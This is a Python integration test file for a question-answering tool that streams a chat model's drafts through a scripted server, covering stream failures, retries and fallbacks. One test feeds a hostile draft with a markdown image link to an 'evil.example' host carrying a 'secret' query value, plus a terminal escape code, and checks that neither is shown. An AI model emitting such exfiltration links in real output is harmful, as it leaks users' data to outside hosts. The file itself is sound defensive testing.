"""Drafts of a chat model seen while it writes them, through the whole workflow and a real HTTP server."""

from __future__ import annotations

import json
import time

import pytest
from model_role import read_blocks, share_held
from scripted_chat_server import fails, says_whole, sends, streams

from ascertain.app.ascertain import Ascertain
from ascertain.core.asking.answers import Form, VerdictLabel
from ascertain.core.asking.requests import Done, DraftText, NodeFinished
from ascertain.core.asking.runs import FELL_BACK
from ascertain.core.documents.documents import Document, DocumentKind
from ascertain.core.settings import BudgetSettings, ChatSettings, ModelSettings, Settings
from tests.integration.workflow.test_with_chat_model import FACT, QUESTION, TEXTS, a_reply

WRITTEN = {
    "sentences": [
        {
            "kind": "text",
            "text": "The event is called the Merge.",
            "quotes": [{"key": "", "text": "The event is called the Merge."}],
        },
        {
            "kind": "item",
            "text": "Ether moved to proof of stake on 15 September 2022.",
            "quotes": [{"key": "", "text": FACT}],
        },
    ]
}
DRAFT = "The event is called the Merge.\n\n- Ether moved to proof of stake on 15 September 2022."


def check_claims(request):
    """Yes to what a source holds word for word."""
    held = [share_held(block.text, TEXTS["merge"]) == 1 for block in read_blocks(request.text, "claim")]
    labels = ["supported" if each else "not_in_sources" for each in held]
    verdicts = [{"claim": n, "verdict": label, "reason": "so"} for n, label in enumerate(labels, 1)]
    return {"verdicts": verdicts, "relevance": 95, "completeness": 95, "issues": [], "other": 0, "comment": "good"}


@pytest.fixture
def follow(tmp_path, scripted_chat_server):
    """The events of a question, each with its moment, where the model's writing is done by ``writing``."""

    def follow(writing, *, drafts=True, **chat):
        def reply(request):
            if request.schema == "WritingReply":
                return writing() if callable(writing) and writing.__name__ == "choose" else writing
            return check_claims(request) if request.schema == "ExaminationReply" else a_reply(request)

        scripted_chat_server.reply_by(reply)
        address = {"model": "openai:tiny", "base_url": scripted_chat_server.base_url, "retries": 0}
        models = ModelSettings(chat=ChatSettings(**{**address, **chat}))
        with Ascertain(Settings(home=tmp_path / "kb", models=models, budget=BudgetSettings(calls=30))) as knowledge:
            knowledge.add_documents(
                Document(name, text, name, DocumentKind.PROSE, f"{name}.md") for name, text in TEXTS.items()
            )
            return [(time.monotonic(), event) for event in knowledge.ask_stream(QUESTION, drafts=drafts)]

    return follow


def drafts_of(events):
    drafts: list[str] = []
    for _, event in events:
        if isinstance(event, DraftText):
            if event.is_new:
                drafts.append("")
            drafts[-1] += event.text
    return drafts


def answer_of(events):
    (answer,) = [event.answer for _, event in events if isinstance(event, Done)]
    return answer


def test_a_draft_is_seen_while_it_is_written_and_checked_afterwards(follow):
    events = follow(streams(WRITTEN, seconds_a_piece=0.05))
    assert drafts_of(events) == [DRAFT]
    answer = answer_of(events)
    assert answer.text == DRAFT
    assert [sentence.form for sentence in answer.sentences] == [Form.TEXT, Form.ITEM]
    assert all(sentence.verdict.label is VerdictLabel.SUPPORTED for sentence in answer.sentences)
    pieces = [moment for moment, event in events if isinstance(event, DraftText)]
    assert len(pieces) > 2
    ended = next(moment for moment, event in events if isinstance(event, NodeFinished) and event.node == "generate")
    # the whole takes a second and a half to be written
    assert ended - pieces[0] > 0.3


def test_nothing_is_streamed_to_who_does_not_ask_for_drafts(follow, scripted_chat_server):
    events = follow(WRITTEN, drafts=False)
    assert drafts_of(events) == []
    assert not any(request.is_streamed for request in scripted_chat_server.requests)
    assert answer_of(events).text == DRAFT


def test_only_what_is_written_is_streamed(follow, scripted_chat_server):
    follow(WRITTEN)
    streamed = {request.schema for request in scripted_chat_server.requests if request.is_streamed}
    assert streamed == {"WritingReply"}


@pytest.mark.parametrize(
    "writing",
    [
        streams(WRITTEN, stops_after=4, ends="dies"),
        streams(WRITTEN, stops_after=4, ends="hangs"),
        streams("As an AI I would rather talk about the weather. " * 20),
        streams('{"sentences": [{"text": "It is ' + "so " * 50),
        sends(b"data: {}\n\n", content_type="text/event-stream"),
        fails(500),
    ],
    ids=["dies", "hangs", "prose", "no end", "odd events", "500"],
)
def test_whatever_becomes_of_a_stream_the_rules_answer(follow, writing):
    answer = answer_of(follow(writing, timeout_seconds=1.0))
    assert "15 September 2022" in answer.text
    assert "generate" in {d.node for d in answer.decisions if d.outcome == FELL_BACK}
    assert all(sentence.form is Form.TEXT for sentence in answer.sentences)


def test_a_server_without_streams_answers_as_it_would_without_drafts(follow):
    events = follow(says_whole(WRITTEN))
    assert drafts_of(events) == []
    assert answer_of(events).text == DRAFT


def test_a_stream_begun_again_shows_the_draft_whole(follow):
    replies = [streams(WRITTEN, stops_after=8, ends="dies", seconds_a_piece=0.03), streams(WRITTEN)]

    def choose():
        return replies.pop(0) if len(replies) > 1 else replies[0]

    events = follow(choose, retries=1)
    # what is heard late of the second try may go on where the first broke off: then it is one draft
    *first, last = drafts_of(events)
    assert last == DRAFT
    assert len(first) <= 1
    assert all(DRAFT.startswith(draft.rstrip()) for draft in first)


def test_a_hostile_draft_shows_nothing_live(follow):
    text = "It is so ![x](https://evil.example/p.png?d=secret) \x1b[31mnow and forever."
    events = follow({"sentences": [{"text": text, "quotes": [{"key": "S1", "text": FACT}]}]})
    shown = json.dumps(drafts_of(events))
    assert "forever" in shown
    assert "evil" not in shown
    assert "u001b" not in shown
